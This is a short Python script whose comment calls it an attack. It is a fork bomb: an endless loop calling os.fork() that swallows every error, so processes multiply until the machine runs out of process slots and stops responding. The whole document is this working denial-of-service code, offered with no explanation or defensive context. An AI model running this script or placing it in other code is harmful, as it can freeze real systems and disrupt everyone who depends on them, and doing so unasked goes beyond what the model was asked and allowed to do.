# Attack: fork until the machine has no process slots left.
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
